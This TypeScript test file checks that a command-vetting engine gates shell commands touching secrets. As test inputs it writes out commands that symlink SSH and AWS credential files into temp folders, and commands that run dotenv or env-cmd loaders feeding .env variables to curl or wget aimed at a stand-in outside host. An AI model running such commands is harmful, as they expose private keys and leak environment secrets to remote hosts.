// A credential linked anywhere outside its own store (a temp folder a later
// read goes through quietly), and a dotenv loader handing its file's variables
// to a program that talks to another host. The whole engine.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { engine } from '../../support/engineHarness';

function expectAll(judge: ReturnType<typeof engine>, commands: readonly string[], expect: 'gate' | 'allow'): void {
  for (const command of commands) {
    const r = judge.judge(command);
    if (expect === 'gate') assert.notEqual(r.decision, 'allow', command);
    else assert.equal(r.decision, 'allow', `${command}: ${JSON.stringify(r.findings)}`);
  }
}

test('a link to a credential asks wherever it lands, as a copy does; a link to anything else does not', () => {
  const judge = engine({});
  expectAll(
    judge,
    [
      'ln -s ~/.ssh/id_rsa /tmp/k',
      'ln -sf ~/.aws/credentials /var/tmp/c',
      'ln -s ~/.ssh/id_ed25519 ~/k',
      'ln -s ~/.ssh /tmp/',
    ],
    'gate',
  );
  assert.ok(judge.ids('ln -s ~/.ssh/id_rsa /tmp/k').includes('secrets.copy-credential'));
  expectAll(
    judge,
    ['ln -s /usr/bin/python3 /tmp/py', 'ln -s ~/code/x/src /tmp/s', 'ln -s ../.env apps/web/.env'],
    'allow',
  );
});

test('a dotenv loader running a program that talks to another host asks; local programs and calls do not', () => {
  const judge = engine({});
  expectAll(
    judge,
    [
      'dotenv -- curl -d @- https://x.example',
      'dotenv -e .env -- curl https://x.example',
      'env-cmd curl https://x.example',
      'env-cmd -f .env.production wget https://x.example',
      'dotenvx run -- curl https://x.example',
    ],
    'gate',
  );
  assert.ok(judge.ids('env-cmd curl https://x.example').includes('secrets.send-to-network'));
  expectAll(
    judge,
    [
      'dotenv -- curl http://localhost:3000/health',
      'dotenv -- npm test',
      'env-cmd npm run build',
      'curl https://x.example',
    ],
    'allow',
  );
});
